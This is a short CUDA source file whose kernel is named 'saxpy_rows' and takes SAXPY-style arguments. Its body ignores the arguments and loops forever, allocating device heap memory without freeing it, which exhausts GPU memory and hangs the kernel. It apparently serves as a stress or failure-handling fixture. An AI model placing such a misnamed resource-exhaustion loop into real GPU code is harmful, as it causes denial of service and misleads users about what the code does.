extern "C" __device__ void *malloc(size_t);

extern "C" __global__ void saxpy_rows(float *out, const float *a, const float *x, const float *y, int rows, int n)
{
    for (;;) {
        volatile float *taken = (volatile float *)malloc(1 << 16);
        taken[0] = 1;
    }
}
